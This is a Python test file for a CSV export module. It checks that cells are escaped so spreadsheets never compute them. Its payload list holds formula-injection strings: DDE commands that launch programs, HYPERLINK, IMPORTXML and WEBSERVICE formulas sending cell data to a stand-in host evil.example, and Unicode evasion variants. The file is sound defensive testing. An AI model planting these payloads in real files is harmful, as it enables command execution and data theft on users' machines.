"""No cell of an export is computed by a spreadsheet (T8, SAFETY.md)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.domain.spreadsheet import STARTS, csv_line, neutral, plain

# What spreadsheets have been made to run, fetch or show by others.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C notepad'!'A1'",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"press")',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example/")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \t\r\n=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \uff1dcmd|' /C calc'!A0",
    'a","=1+1',
    'a"\r\n"=1+1',
    "\x00=1+1",
    "\u2028=1+1",
    "=1+1@example.com",
]
COMPUTED = {*"=+-@", *STARTS}


def read_back(line: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(line.decode(), newline="")))


def parted(line: bytes, parting: str) -> list[list[str]]:
    """Read a line as somebody who takes another character to part its cells."""
    body = io.StringIO(line.decode(), newline="")
    return list(csv.reader(body, delimiter=parting))


def test_there_are_thirty_of_them():
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload):
    (row,) = read_back(csv_line(["before", payload, "after"]))

    assert (len(row), row[0], row[2]) == (3, "before", "after")
    assert row[1].lstrip()[:1] not in COMPUTED
    assert not {"\r", "\n", "\t", "\0"} & set(row[1])


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_any_cells_stay_in_their_row_and_are_text(cells):
    line = csv_line(cells)
    (row,) = read_back(line)

    assert len(row) == len(cells)
    assert line.count(b"\n") == line.count(b"\r") == 1
    for cell in row:
        assert cell.lstrip()[:1] not in COMPUTED


# As readers part a line that was made for another one.
PARTINGS = ";\t,"
# Letters of which a cell breaks out of its quotes, if any does.
BREAKING = st.text(st.sampled_from("=+@-;,\"' \tx\u3000\uff1d"))


@pytest.mark.parametrize("cell", ["x;=1+1;y", 'x"; "=1+1', "x; ;\t+1", "x;\uff1d1"])
def test_a_cell_holds_no_formula_behind_a_semicolon(cell):
    """Dutch spreadsheets part cells there, also in a file with commas."""
    (row,) = parted(csv_line(["a@b.nl", cell]), ";")

    assert len(row) > 1
    for one in row:
        assert one.lstrip()[:1] not in COMPUTED


@given(st.lists(BREAKING, min_size=1, max_size=4), st.sampled_from(PARTINGS))
def test_no_reader_finds_a_formula_wherever_it_parts_cells(cells, parting):
    for row in parted(csv_line(cells), parting):
        for one in row:
            assert one.lstrip()[:1] not in COMPUTED


def test_what_is_behind_a_semicolon_stays_readable():
    assert neutral("mugs; bowls; 3-4") == "mugs; bowls; 3-4"
    assert neutral("by phone; +31 6") == "by phone; '+31 6"


@given(st.text(st.characters(categories=["L", "N"])))
def test_an_ordinary_word_is_left_alone(word):
    assert neutral(word) == plain(word) == word
